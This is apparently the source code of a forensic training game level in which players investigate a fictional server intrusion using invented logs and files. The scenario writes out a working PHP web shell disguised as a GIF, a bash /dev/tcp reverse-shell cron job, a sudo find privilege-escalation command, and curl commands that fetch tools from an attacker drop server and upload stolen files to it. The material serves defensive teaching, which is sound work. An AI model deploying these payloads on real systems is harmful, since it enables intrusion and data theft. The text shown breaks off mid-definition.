// Level 5 — The Hunt for The Null: a forensic sweep of a compromised office server. The player
// reads files and logs in a File Manager, tags what proves each stage of the attack into an
// Evidence Locker (with what it proves), and closes the case with a short report.
// Everything here is fictional: addresses come from the documentation ranges (RFC 5737 and the
// private 10.0.0.0/8), domains from reserved names (*.example, *.test).

import { h, icon, loadLevelStylesheet, replace, scrollWithin } from '../dom.js';

const HOST = 'qf-srv01';

/** What a tagged item can prove. `short` fits the per-line select. */
export const CATEGORIES = [
  { id: 'initial-access', label: 'Initial access', short: 'Initial access' },
  { id: 'persistence', label: 'Privilege escalation / persistence', short: 'Priv-esc / persistence' },
  { id: 'exfiltration', label: 'Exfiltration', short: 'Exfiltration' },
  { id: 'attribution', label: 'Attribution', short: 'Attribution' },
];

/**
 * The level's own points: evidence and report are scored separately and added (900 + 5 × 120 =
 * 1500, FULL_POINTS). The score is the points as a share of FULL_POINTS, scaled to max_score.
 */
export const SCORING = { evidencePoints: 900, decoyPenalty: 75, answerPoints: 120 };

// Minutes east of UTC each kind of log is written in. On easy and normal the whole server runs on
// UTC; on hard the host, the web container and the attacker's upload tool all disagree.
export const TIME_ZONES = {
  host: { normal: 0, hard: 60, name: 'the server itself (Europe/Berlin, UTC+01:00 in March)' },
  web: { normal: 0, hard: -240, name: 'the web server container (America/New_York, UTC−04:00 in March)' },
  tool: { normal: 0, hard: 540, name: "the intruder's upload tool (Asia/Tokyo, UTC+09:00)" },
};

// ---------------------------------------------------------------------------------------------
// Content: log lines. Times are UTC (ISO); they are shown in each log's own zone.

/** A line at `time` (hh:mm:ss on 14 March 2025, or a full ISO timestamp). */
function at(time, fields) {
  const t = time.includes('T') ? time : `2025-03-14T${time}Z`;
  return { t, ...fields };
}

const sys = (time, msg, extra = {}) => at(time, { msg, ...extra });

/** hh:mm:ss for `minutes` after midnight (UTC, 14 March). */
function clockAt(minutes, seconds = 1) {
  const hh = String(Math.floor(minutes / 60)).padStart(2, '0');
  const mm = String(minutes % 60).padStart(2, '0');
  return `${hh}:${mm}:${String(seconds).padStart(2, '0')}`;
}

const PHP_CRON = '(root) CMD (  [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi)';
const SHELL_CRON = '(root) CMD (/bin/bash -c "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1")';

// Cron's own traces: the genuine PHP clean-up at :09 and :39, the planted reverse shell every
// 15 minutes from 02:30 until the machine was isolated. Generated because real syslogs repeat.
function cronNoise() {
  const lines = [];
  for (let m = 69; m <= 459; m += 30) {
    if (m !== 129) lines.push(sys(clockAt(m), `CRON[${46000 + m * 7}]: ${PHP_CRON}`, { hard: m % 60 === 39 }));
  }
  for (let m = 165; m <= 465; m += 15) lines.push(sys(clockAt(m), `CRON[${46003 + m * 7}]: ${SHELL_CRON}`));
  return lines;
}

const AUTH_LINES = [
  sys('01:17:01', 'CRON[46890]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'),
  sys('01:17:01', 'CRON[46890]: pam_unix(cron:session): session closed for user root'),
  sys('01:31:18', 'sshd[46952]: Invalid user oracle from 198.51.100.23 port 40102', { hard: true }),
  sys('01:31:20', 'sshd[46952]: Failed password for invalid user oracle from 198.51.100.23 port 40102 ssh2', { hard: true, ev: 'auth-scanner-failed' }),
  sys('01:31:21', 'sshd[46952]: Connection closed by invalid user oracle 198.51.100.23 port 40102 [preauth]', { hard: true }),
  sys('01:44:10', 'sshd[47001]: Connection closed by 198.51.100.23 port 40188 [preauth]'),
  sys('01:58:03', 'sshd[47310]: Invalid user admin from 203.0.113.77 port 50022'),
  sys('01:58:05', 'sshd[47310]: Failed password for invalid user admin from 203.0.113.77 port 50022 ssh2'),
  sys('01:58:09', 'sshd[47318]: Failed password for root from 203.0.113.77 port 50041 ssh2'),
  sys('01:58:14', 'sshd[47325]: Failed password for deploy from 203.0.113.77 port 50057 ssh2'),
  sys('02:11:30', 'sshd[47325]: message repeated 212 times: [ Failed password for deploy from 203.0.113.77 port 50057 ssh2]', { ev: 'auth-bruteforce' }),
  sys('02:11:52', 'sshd[48211]: Accepted password for deploy from 203.0.113.77 port 51544 ssh2', { ev: 'auth-deploy-accepted' }),
  sys('02:11:52', 'sshd[48211]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)'),
  sys('02:11:52', 'systemd-logind[612]: New session 418 of user deploy.'),
  sys('02:13:40', 'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/bash ; -quit', { ev: 'auth-sudo-find' }),
  sys('02:13:40', 'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)'),
  sys('02:17:01', 'CRON[48301]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', { hard: true }),
  sys('02:17:01', 'CRON[48301]: pam_unix(cron:session): session closed for user root', { hard: true }),
  sys('02:44:55', 'sshd[48211]: pam_unix(sshd:session): session closed for user deploy'),
  sys('03:17:01', 'CRON[49655]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', { hard: true }),
  sys('03:17:01', 'CRON[49655]: pam_unix(cron:session): session closed for user root', { hard: true }),
  sys('04:02:44', 'sshd[49870]: Connection closed by 192.0.2.200 port 55210 [preauth]', { hard: true }),
  sys('07:39:12', 'sshd[51020]: Failed password for mara from 10.20.4.15 port 61544 ssh2', { ev: 'auth-mara-failed' }),
  sys('07:39:20', 'sshd[51020]: Accepted password for mara from 10.20.4.15 port 61544 ssh2', { ev: 'auth-mara-accepted' }),
  sys('07:39:20', 'sshd[51020]: pam_unix(sshd:session): session opened for user mara(uid=1000) by (uid=0)'),
  sys('07:52:03', 'sudo:     mara : TTY=pts/0 ; PWD=/home/mara ; USER=root ; COMMAND=/usr/bin/less /var/log/auth.log', { ev: 'auth-mara-sudo' }),
];

const SYSLOG_LINES = [
  sys('01:02:11', 'systemd[1]: Starting logrotate.service - Rotate log files...', { hard: true }),
  sys('01:02:12', 'systemd[1]: logrotate.service: Deactivated successfully.', { hard: true }),
  sys('01:50:40', 'systemd-timesyncd[540]: Contacted time server 10.20.0.2:123 (ntp.quillfeather.example).', { hard: true }),
  sys('02:09:01', `CRON[48120]: ${PHP_CRON}`, { ev: 'syslog-php-cron' }),
  sys('02:24:18', 'cron[598]: (*system*php-sessionclean2) RELOAD (/etc/cron.d/php-sessionclean2)'),
  sys('02:30:01', `CRON[49102]: ${SHELL_CRON}`, { ev: 'syslog-reverse-shell' }),
  sys('03:33:20', 'kernel: [1208512.004417] e1000e 0000:00:19.0 ens18: NIC Link is Up 1000 Mbps Full Duplex', { hard: true }),
  sys('06:25:01', 'CRON[50311]: (root) CMD (test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; })'),
  sys('06:31:17', 'systemd[1]: Starting apt-daily-upgrade.service - Daily apt upgrade and clean activities...', { ev: 'syslog-apt-daily' }),
  sys('06:31:40', 'systemd[1]: apt-daily-upgrade.service: Deactivated successfully.'),
  sys('07:39:20', 'systemd-logind[612]: New session 421 of user mara.'),
  ...cronNoise(),
];

// Firewall blocks (hard only): the internet knocks on every server all night long.
const UFW_LINES = [
  sys('00:48:02', 'kernel: [UFW BLOCK] IN=ens18 OUT= SRC=192.0.2.146 DST=10.20.0.12 LEN=40 PROTO=TCP SPT=51876 DPT=3389 WINDOW=1024 SYN', { ev: 'ufw-rdp-block' }),
  sys('02:05:33', 'kernel: [UFW BLOCK] IN=ens18 OUT= SRC=198.51.100.23 DST=10.20.0.12 LEN=44 PROTO=TCP SPT=40221 DPT=23 WINDOW=1024 SYN', { ev: 'ufw-telnet-block' }),
  sys('04:15:40', 'kernel: [UFW BLOCK] IN=ens18 OUT= SRC=198.51.100.190 DST=10.20.0.12 LEN=40 PROTO=TCP SPT=44120 DPT=5900 WINDOW=1024 SYN'),
  sys('05:37:09', 'kernel: [UFW BLOCK] IN=ens18 OUT= SRC=192.0.2.77 DST=10.20.0.12 LEN=40 PROTO=TCP SPT=61001 DPT=445 WINDOW=1024 SYN'),
  sys('06:58:51', 'kernel: [UFW BLOCK] IN=ens18 OUT= SRC=198.51.100.23 DST=10.20.0.12 LEN=44 PROTO=TCP SPT=40388 DPT=2323 WINDOW=1024 SYN'),
];

const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0';
const PHONE = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148';
const ATTACKER_UA = 'python-requests/2.31.0';
const SCANNER_UA = 'Mozilla/5.0 zgrab/0.x';

const web = (time, ip, req, st, sz, ua, extra = {}) => at(time, { ip, req, st, sz, ua, ...extra });

// Monitoring and customers tracking parcels: the normal traffic the intrusion hides in.
function webNoise() {
  const lines = [];
  for (let m = 60; m <= 470; m += 20) {
    lines.push(web(clockAt(m, 5), '10.20.0.5', 'GET /healthz HTTP/1.1', 200, 2, 'qf-monitor/2.1', { hard: m % 40 !== 0 }));
  }
  for (let i = 0; i < 12; i += 1) {
    const m = 75 + i * 31;
    const ip = `192.0.2.${31 + ((i * 37) % 180)}`;
    lines.push(web(clockAt(m, (i * 13) % 60), ip, `GET /track?ref=QF-${88231 + i * 417} HTTP/1.1`, 200, 3311 + i * 7, PHONE, { hard: i % 3 !== 0 }));
  }
  return lines;
}

const ACCESS_LINES = [
  web('01:47:33', '198.51.100.23', 'GET /wp-login.php HTTP/1.1', 404, 196, SCANNER_UA, { ev: 'web-scanner-wplogin' }),
  web('01:47:34', '198.51.100.23', 'GET /.env HTTP/1.1', 404, 196, SCANNER_UA),
  web('01:47:35', '198.51.100.23', 'GET /phpmyadmin/ HTTP/1.1', 404, 196, SCANNER_UA, { hard: true }),
  web('01:47:36', '198.51.100.23', 'POST /support/upload.php HTTP/1.1', 403, 212, SCANNER_UA, { hard: true, ev: 'web-scanner-upload' }),
  web('02:18:44', '203.0.113.77', 'GET /support/ HTTP/1.1', 200, 5120, ATTACKER_UA),
  web('02:19:07', '203.0.113.77', 'POST /support/upload.php HTTP/1.1', 200, 64, ATTACKER_UA, { ev: 'web-shell-upload' }),
  web('02:19:15', '203.0.113.77', 'GET /uploads/img_0413.php?c=id HTTP/1.1', 200, 54, ATTACKER_UA, { ev: 'web-shell-cmd' }),
  web('02:19:31', '203.0.113.77', 'GET /uploads/img_0413.php?c=uname+-a HTTP/1.1', 200, 112, ATTACKER_UA),
  web('07:12:45', '10.20.4.15', 'GET /support/ HTTP/1.1', 200, 5120, FIREFOX),
  web('07:13:02', '10.20.4.15', 'POST /support/upload.php HTTP/1.1', 200, 64, FIREFOX, { ref: 'https://www.quillfeather.example/support/', ev: 'web-mara-upload' }),
  web('07:13:05', '10.20.4.15', 'GET /uploads/logo-2024.png HTTP/1.1', 200, 49152, FIREFOX),
  ...webNoise(),
];

const tool = (time, msg, extra = {}) => at(time, { msg, ...extra });

const SYNC_LINES = [
  tool('02:36:40', '[info] sync 1.8.2 (linux/amd64) starting: put q1_clients.tar.gz'),
  tool('02:36:41', '[info] resolving files.nullsec-drop.test ... 203.0.113.80'),
  tool('02:36:43', '[warn] PUT https://files.nullsec-drop.test/u/qf-0314/q1_clients.tar.gz -> 403 Forbidden (upload token expired)'),
  tool('02:36:45', '[info] token refreshed, retrying in 5 s'),
  tool('02:36:50', '[info] PUT https://files.nullsec-drop.test/u/qf-0314/q1_clients.tar.gz -> 100 Continue'),
  tool('02:38:12', '[info] upload complete: q1_clients.tar.gz 48.2 MiB in 82.1 s (601 KiB/s) -> 200 OK', { ev: 'sync-upload-ok' }),
  tool('02:38:13', '[info] done: 1 file, 48.2 MiB sent, 0 failed'),
];

const DEPLOY_HISTORY = [
  { text: 'cd /var/www/app' },
  { text: 'git pull origin main', ev: 'deploy-git-pull' },
  { text: 'composer install --no-dev --optimize-autoloader' },
  { text: "sudo /usr/bin/find /var/www/app/storage/logs -name '*.log' -mtime +14 -delete", ev: 'deploy-log-cleanup' },
  { text: 'exit' },
  { text: 'whoami' },
  { text: 'id' },
  { text: 'sudo -l' },
  { text: 'sudo find . -exec /bin/bash \\; -quit', ev: 'deploy-sudo-shell' },
];

const ROOT_HISTORY = [
  { text: 'apt update && apt upgrade -y', ev: 'root-apt-upgrade' },
  { text: 'certbot renew --dry-run' },
  { text: 'systemctl reload apache2' },
  { text: 'cd /srv/share' },
  { text: 'ls -la finance hr contracts' },
  { text: `echo '*/15 * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"' > /etc/cron.d/php-sessionclean2`, ev: 'root-cron-echo' },
  { text: 'touch -r /etc/cron.d/php /etc/cron.d/php-sessionclean2' },
  { text: 'mkdir -p /tmp/.x11-cache && cd /tmp/.x11-cache' },
  { text: 'tar czf q1_clients.tar.gz -C /srv/share finance/client-ledger-2025Q1.csv hr/payroll-2025-02.csv contracts', ev: 'root-tar' },
  { text: 'curl -fsSLo sync https://files.nullsec-drop.test/dl/sync && chmod +x sync' },
  {
    text: './sync put q1_clients.tar.gz --to files.nullsec-drop.test/u/qf-0314 --log sync.log',
    hardText: 'TZ=Asia/Tokyo ./sync put q1_clients.tar.gz --to files.nullsec-drop.test/u/qf-0314 --log sync.log',
    ev: 'root-sync-put',
  },
  { text: 'curl -fsSL https://files.nullsec-drop.test/dl/n.txt -o /home/mara/Desktop/READ_ME_NOW.txt', ev: 'root-note' },
  { text: 'chown mara:mara /home/mara/Desktop/READ_ME_NOW.txt' },
  { text: 'exit' },
];

// ---------------------------------------------------------------------------------------------
// Content: documents.

const NOTE_TEXT = `TO QUILLFEATHER LOGISTICS

We have your Q1 client ledger, your February payroll and every
contract in /srv/share/contracts. Copies are safe with us. The
originals are still on your server: we are not vandals.

You left a door open and we walked in. We left it open behind us.

Within 72 hours, write to null-desk@mailbox.test quoting QF-0314
and you will receive our terms. Call the police first and the
files go to your clients and to the press.

Nothing personal. Nothing is ever personal.
                                            — The Null`;

const ROTA_TEXT = `ON-CALL ROTA — MARCH 2025 (IT operations)

Week 10  (3–9 Mar)     Jonas Brandt
Week 11  (10–16 Mar)   Mara Lindqvist
Week 12  (17–23 Mar)   Priya Raman
Week 13  (24–30 Mar)   Jonas Brandt

Escalation: it-duty@quillfeather.example
Security incidents: follow runbook IR-02 (isolate first, then call the lead).`;

const TODO_TEXT = `TODO — Mara

[ ] rotate the deploy account password (still the one from the 2019 setup…)
[ ] ask Jonas to limit /support uploads to images only
[x] update qf-srv01 (apt upgrade) — done 13 Mar
[ ] read the null-pointer article before the billing bug review
[x] new logo on the support page (Marketing sent logo-2024.png) — 14 Mar morning`;

const SUPPLIERS_TEXT = `supplier,contact,email,city
Brightwater Freight,Elena Voss,elena.voss@brightwater.example,Rotterdam
Kestrel Pallets,Tomas Ilic,orders@kestrel-pallets.example,Graz
Northloop Fuel Cards,Service desk,support@northloop.example,Leeds
Harbourline Customs,Aylin Kaya,aylin.kaya@harbourline.example,Hamburg`;

const CRON_PHP_TEXT = `# /etc/cron.d/php: clean up expired PHP session files.
# Installed by the php-common package. Runs at minute 9 and 39 of
# every hour; the helper only acts when sessions are stored as files.

09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi`;

const CRON_FAKE_TEXT = '*/15 * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"';

const CRON_CERTBOT_TEXT = `# /etc/cron.d/certbot: renew TLS certificates twice a day.
# Installed by the certbot package.
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew`;

const WEBSHELL_TEXT = `GIF89a;
<?php /* img */ if (isset($_GET['c'])) { echo '<pre>'; system($_GET['c']); echo '</pre>'; } ?>`;

const BACKUP_TEXT = `qf-backup verify — 2025-03-13 23:04 UTC
target:    backup.quillfeather.example (10.20.0.40, internal network)
snapshot:  nightly-2025-03-13   files: 184 220   size: 12.4 GB
checksum:  OK
retention: 14 nightly, 8 weekly`;

const ARCHIVE_TEXT = `$ tar -tzvf q1_clients.tar.gz
-rw-r----- finance/finance 26114880 2025-03-12 17:40 finance/client-ledger-2025Q1.csv
-rw-r----- hr/hr            3118020 2025-03-03 09:15 hr/payroll-2025-02.csv
drwxr-x--- legal/legal            0 2025-02-20 11:02 contracts/
-rw-r----- legal/legal     12402331 2025-02-20 11:02 contracts/brightwater-freight-msa.pdf
-rw-r----- legal/legal     11270884 2025-01-30 14:48 contracts/kestrel-pallets-framework.pdf`;

// A metadata value {t} is a UTC time shown in the host's zone, like the rest of the server's view.
const when = (time) => ({ t: at(time, {}).t });

/**
 * The disk image. kind: 'log' (lines, some taggable), 'text' or 'binary' (the whole file is one
 * taggable item, `ev`). format/zone say how log timestamps are written. hardOnly: only on hard.
 */
export const FILES = [
  { id: 'note', path: '/home/mara/Desktop/READ_ME_NOW.txt', kind: 'text', text: NOTE_TEXT, ev: 'note',
    meta: [['Owner', 'mara'], ['Size', '512 B'], ['Modified', when('02:41:09')]] },
  { id: 'rota', path: '/home/mara/Desktop/on-call-rota-march.txt', kind: 'text', text: ROTA_TEXT, ev: 'rota',
    meta: [['Owner', 'mara'], ['Modified', when('2025-02-26T15:20:00Z')]] },
  { id: 'todo', path: '/home/mara/Documents/todo.txt', kind: 'text', text: TODO_TEXT, ev: 'todo',
    meta: [['Owner', 'mara'], ['Modified', when('07:20:44')]] },
  { id: 'suppliers', path: '/home/mara/Documents/supplier-contacts.csv', kind: 'text', text: SUPPLIERS_TEXT, ev: 'suppliers',
    meta: [['Owner', 'mara'], ['Modified', when('2025-01-14T10:02:00Z')]] },
  { id: 'nullpdf', path: '/home/mara/Downloads/Null-Pointer-Exceptions-Explained.pdf', kind: 'binary', ev: 'nullpdf',
    meta: [['Type', 'PDF document, 14 pages'], ['Size', '2.1 MB'], ['Owner', 'mara'],
      ['Downloaded', when('2025-03-11T16:02:37Z')], ['Source', 'https://learn.devnotes.example/articles/null-pointers.pdf'],
      ['Downloaded by', 'Firefox (Mara’s session)']] },
  { id: 'remote-deb', path: '/home/mara/Downloads/qf-remote-support_2.4_amd64.deb', kind: 'binary', ev: 'remote-deb',
    meta: [['Type', 'Debian package qf-remote-support 2.4'], ['Size', '3.4 MB'], ['Owner', 'mara'],
      ['Signature', 'valid — Quillfeather IT Packaging <it@quillfeather.example>'],
      ['Source', 'https://it.quillfeather.example/tools/qf-remote-support_2.4_amd64.deb'],
      ['Downloaded', when('2025-02-27T10:20:00Z')], ['Note', 'installed for helpdesk ticket IT-2291']] },
  { id: 'invoice', path: '/home/mara/Downloads/invoice-QF-7731.pdf', kind: 'binary', ev: 'invoice', hardOnly: true,
    meta: [['Type', 'PDF document, 2 pages'], ['Size', '88 KB'], ['Owner', 'mara'],
      ['Source', 'https://billing.quillfeather.example/invoices/QF-7731.pdf'], ['Downloaded', when('2025-03-13T14:11:00Z')]] },
  { id: 'deploy-history', path: '/home/deploy/.bash_history', kind: 'log', format: 'history', lines: DEPLOY_HISTORY,
    meta: [['Owner', 'deploy'], ['Modified', when('02:44:55')]] },
  { id: 'root-history', path: '/root/.bash_history', kind: 'log', format: 'history', lines: ROOT_HISTORY,
    meta: [['Owner', 'root'], ['Modified', when('02:44:51')]] },
  { id: 'cron-php', path: '/etc/cron.d/php', kind: 'text', text: CRON_PHP_TEXT, ev: 'cron-php',
    meta: [['Owner', 'root'], ['Modified', when('2024-11-02T06:12:40Z')], ['Changed (ctime)', when('2024-11-02T06:12:40Z')],
      ['Package', 'php-common']] },
  { id: 'cron-sessionclean2', path: '/etc/cron.d/php-sessionclean2', kind: 'text', text: CRON_FAKE_TEXT, ev: 'cron-sessionclean2',
    meta: [['Owner', 'root'], ['Modified', when('2024-11-02T06:12:40Z')], ['Changed (ctime)', when('02:24:18')],
      ['Package', 'none (dpkg -S: no path found)']] },
  { id: 'cron-certbot', path: '/etc/cron.d/certbot', kind: 'text', text: CRON_CERTBOT_TEXT, ev: 'cron-certbot',
    meta: [['Owner', 'root'], ['Modified', when('2024-09-18T08:40:00Z')], ['Package', 'certbot']] },
  { id: 'auth-log', path: '/var/log/auth.log', kind: 'log', format: 'syslog', zone: 'host', lines: AUTH_LINES },
  { id: 'syslog', path: '/var/log/syslog', kind: 'log', format: 'syslog', zone: 'host', lines: SYSLOG_LINES },
  { id: 'ufw-log', path: '/var/log/ufw.log', kind: 'log', format: 'syslog', zone: 'host', lines: UFW_LINES, hardOnly: true },
  { id: 'access-log', path: '/var/log/apache2/access.log', kind: 'log', format: 'apache', zone: 'web', lines: ACCESS_LINES },
  { id: 'webshell', path: '/var/www/html/uploads/img_0413.php', kind: 'text', text: WEBSHELL_TEXT, ev: 'webshell',
    meta: [['Owner', 'www-data'], ['Size', '96 B'], ['Created', when('02:19:07')], ['Uploaded through', '/support/upload.php']] },
  { id: 'logo', path: '/var/www/html/uploads/logo-2024.png', kind: 'binary', ev: 'logo',
    meta: [['Type', 'PNG image, 1200 × 400'], ['Size', '48 KB'], ['Owner', 'www-data'], ['Created', when('07:13:02')],
      ['Uploaded through', '/support/upload.php']] },
  { id: 'backup-check', path: '/tmp/backup-check.txt', kind: 'text', text: BACKUP_TEXT, ev: 'backup-check',
    meta: [['Owner', 'mara'], ['Modified', when('2025-03-13T23:04:50Z')]] },
  { id: 'x0', path: '/tmp/.X11-unix/X0', kind: 'binary', ev: 'x0', hardOnly: true,
    meta: [['Type', 'socket (X11 display :0)'], ['Owner', 'root'], ['Created', when('2025-03-10T08:02:13Z')],
      ['Created by', 'the display server at boot']] },
  { id: 'archive', path: '/tmp/.x11-cache/q1_clients.tar.gz', kind: 'text', text: ARCHIVE_TEXT, ev: 'archive',
    meta: [['Type', 'gzip-compressed tar archive'], ['Size', '48.2 MiB'], ['Owner', 'root'], ['Created', when('02:34:12')]] },
  { id: 'sync-tool', path: '/tmp/.x11-cache/sync', kind: 'binary', ev: 'sync-tool',
    meta: [['Type', 'ELF 64-bit executable, x86-64, statically linked, stripped'], ['Size', '7.9 MB'], ['Owner', 'root'],
      ['Created', when('02:35:58')], ['Package', 'none (dpkg -S: no path found)']] },
  { id: 'sync-log', path: '/tmp/.x11-cache/sync.log', kind: 'log', format: 'sync', zone: 'tool', lines: SYNC_LINES,
    meta: [['Owner', 'root'], ['Modified', when('02:38:13')]] },
];

// ---------------------------------------------------------------------------------------------
// Content: what each taggable item proves (category) or why it is innocent (decoy).

const real = (id, file, category, label, why) => ({ id, file, category, decoy: false, label, why });
const decoy = (id, file, label, why, extra = {}) => ({ id, file, category: null, decoy: true, label, why, ...extra });

export const EVIDENCE = [
  real('auth-bruteforce', 'auth-log', 'initial-access', 'auth.log: 212 failed passwords for deploy from 203.0.113.77',
    'Hundreds of failed passwords for one account from one address in 13 minutes: a password-guessing (brute-force) run.'),
  real('auth-deploy-accepted', 'auth-log', 'initial-access', 'auth.log: accepted password for deploy from 203.0.113.77',
    'The guessing worked: deploy logged in from 203.0.113.77, far outside the office range 10.20.0.0/16. This is the way in.'),
  real('auth-sudo-find', 'auth-log', 'persistence', 'auth.log: deploy runs find -exec /bin/bash as root',
    'deploy may run find as root (meant for log clean-up); find -exec started a root shell. Privilege escalation.'),
  real('deploy-sudo-shell', 'deploy-history', 'persistence', "deploy's history: sudo find . -exec /bin/bash",
    'The same escalation, typed by the intruder right after checking what deploy may run (sudo -l).'),
  real('web-shell-upload', 'access-log', 'persistence', 'access.log: 203.0.113.77 uploads through /support/upload.php',
    'Eight minutes after the SSH break-in the same address uploaded a PHP file through the support form: a spare door.'),
  real('web-shell-cmd', 'access-log', 'persistence', 'access.log: /uploads/img_0413.php?c=id',
    'The "image" runs commands given in ?c= — proof the web shell works.'),
  real('webshell', 'webshell', 'persistence', 'img_0413.php: a web shell disguised as a GIF',
    'A file that starts like a GIF but is PHP running any command in ?c=: a web shell left to come back through.'),
  real('cron-sessionclean2', 'cron-sessionclean2', 'persistence', '/etc/cron.d/php-sessionclean2: reverse shell every 15 minutes',
    'Named like the PHP clean-up job, but it calls 203.0.113.77 with a root shell every 15 minutes. Its modified date was copied from the real file (touch -r); the change time (ctime) gives it away.'),
  real('syslog-reverse-shell', 'syslog', 'persistence', 'syslog: cron runs the reverse shell at 02:30 UTC',
    'cron really ran the planted job at 02:30 UTC and every 15 minutes after that.'),
  real('root-cron-echo', 'root-history', 'persistence', "root's history: writing /etc/cron.d/php-sessionclean2",
    'The intruder writing the fake cron job — then back-dating it with touch -r.'),
  real('root-tar', 'root-history', 'exfiltration', "root's history: tar of the ledger, payroll and contracts",
    'The client ledger, February payroll and contracts packed into one archive in a hidden folder: staging for exfiltration.'),
  real('archive', 'archive', 'exfiltration', 'q1_clients.tar.gz in /tmp/.x11-cache',
    'The staged archive itself: 48 MiB of finance, HR and contract files in a folder made to look like a system cache.'),
  real('sync-tool', 'sync-tool', 'exfiltration', 'sync: an upload tool from files.nullsec-drop.test',
    'An upload program downloaded from the attacker’s drop server; no package installed it.'),
  real('root-sync-put', 'root-history', 'exfiltration', "root's history: ./sync put q1_clients.tar.gz",
    'The command that sent the archive out (on hard, run with TZ=Asia/Tokyo, which is why its log is in UTC+09:00).'),
  real('sync-upload-ok', 'sync-log', 'exfiltration', 'sync.log: upload complete, 48.2 MiB, 200 OK',
    'The first try was refused (403), the retry completed (200 OK) at 02:38 UTC: the data left the server.'),
  real('note', 'note', 'attribution', 'READ_ME_NOW.txt signed "The Null"',
    'The ransom note, signed The Null, lists exactly the files in the archive.'),
  real('root-note', 'root-history', 'attribution', "root's history: the note fetched from the drop server",
    'The intruder’s root shell fetched the note from the same drop server and put it on Mara’s desktop: it ties The Null to this intrusion.'),

  decoy('auth-scanner-failed', 'auth-log', 'auth.log: failed password for "oracle" from 198.51.100.23',
    'An internet scanner trying default accounts; it never got in. Background noise.', { hardOnly: true }),
  decoy('auth-mara-failed', 'auth-log', 'auth.log: failed password for mara from 10.20.4.15',
    'Mara mistyped her password at 07:39 UTC from her office workstation — perfectly normal.'),
  decoy('auth-mara-accepted', 'auth-log', 'auth.log: mara logs in from 10.20.4.15',
    'Mara’s own login from the office network the next morning.'),
  decoy('auth-mara-sudo', 'auth-log', 'auth.log: mara reads auth.log with sudo',
    'Mara reading auth.log: she was investigating, not attacking.'),
  decoy('syslog-php-cron', 'syslog', 'syslog: the PHP session clean-up job',
    'The genuine job from /etc/cron.d/php, at minute 9 and 39 as always.'),
  decoy('syslog-apt-daily', 'syslog', 'syslog: daily apt upgrade',
    'Debian’s scheduled automatic updates.'),
  decoy('ufw-rdp-block', 'ufw-log', 'ufw.log: blocked RDP probe from 192.0.2.146',
    'A blocked probe: the firewall did its job, nothing got in.', { hardOnly: true }),
  decoy('ufw-telnet-block', 'ufw-log', 'ufw.log: blocked telnet probe from 198.51.100.23',
    'The same scanner as in the web log, blocked by the firewall.', { hardOnly: true }),
  decoy('web-scanner-wplogin', 'access-log', 'access.log: 198.51.100.23 probes /wp-login.php',
    'Internet background noise: a scanner looking for WordPress (404 — there is none).'),
  decoy('web-scanner-upload', 'access-log', 'access.log: 198.51.100.23 posts to the upload form (403)',
    'The scanner’s upload attempt was refused (403).', { hardOnly: true }),
  decoy('web-mara-upload', 'access-log', 'access.log: 10.20.4.15 uploads through the support form',
    'Mara uploading the new logo from the office at 07:13 UTC (it is logo-2024.png).'),
  decoy('deploy-git-pull', 'deploy-history', "deploy's history: git pull",
    'The real deploy job updating the website before the intrusion.'),
  decoy('deploy-log-cleanup', 'deploy-history', "deploy's history: sudo find … -delete of old logs",
    'The legitimate reason deploy may run find as root. The sudo rule is dangerous, but this use of it is innocent.'),
  decoy('root-apt-upgrade', 'root-history', "root's history: apt upgrade",
    'Mara’s routine update on 13 March (see her to-do list).'),
  decoy('rota', 'rota', 'on-call-rota-march.txt', 'Just the on-call rota.'),
  decoy('todo', 'todo', 'todo.txt', 'Mara’s to-do list: useful context (a weak deploy password), but not evidence of the attack.'),
  decoy('suppliers', 'suppliers', 'supplier-contacts.csv', 'An ordinary contact list, never touched by the intruder.'),
  decoy('nullpdf', 'nullpdf', 'Null-Pointer-Exceptions-Explained.pdf',
    'A programming article Mara downloaded two days earlier. A name containing "Null" is not attribution.'),
  decoy('remote-deb', 'remote-deb', 'qf-remote-support_2.4_amd64.deb',
    'Signed by Quillfeather IT and installed for a helpdesk ticket.'),
  decoy('invoice', 'invoice', 'invoice-QF-7731.pdf', 'An invoice from the company’s own billing system.', { hardOnly: true }),
  decoy('cron-php', 'cron-php', '/etc/cron.d/php', 'The genuine job installed by the php-common package.'),
  decoy('cron-certbot', 'cron-certbot', '/etc/cron.d/certbot', 'Certificate renewal, installed by the certbot package.'),
  decoy('logo', 'logo', 'logo-2024.png', 'The logo Mara uploaded at 07:13 UTC, as her to-do list says.'),
  decoy('backup-check', 'backup-check', 'backup-check.txt',
    'The nightly backup to Quillfeather’s own backup server on the internal network: a legitimate transfer.'),
  decoy('x0', 'x0', '/tmp/.X11-unix/X0',
    'A normal hidden system folder: the display server’s socket, created at boot days before.', { hardOnly: true }),
];

const time = (id, label) => ({ id, label });

export const REPORT_QUESTIONS = [
  {
    id: 'entry',
    prompt: 'How did The Null first get into qf-srv01?',
    answer: 'ssh-bruteforce',
    options: [
      { id: 'web-shell', label: 'A web shell uploaded through the support form' },
      { id: 'ssh-bruteforce', label: 'Guessing the deploy account’s SSH password (brute force)' },
      { id: 'remote-support', label: 'The remote-support package Mara downloaded' },
      { id: 'phishing', label: 'A phishing email opened on Mara’s workstation' },
    ],
    why: 'auth.log: 212 failed passwords, then "Accepted password for deploy" at 02:11 UTC. The web shell came 8 minutes later (02:19 UTC) from the same address.',
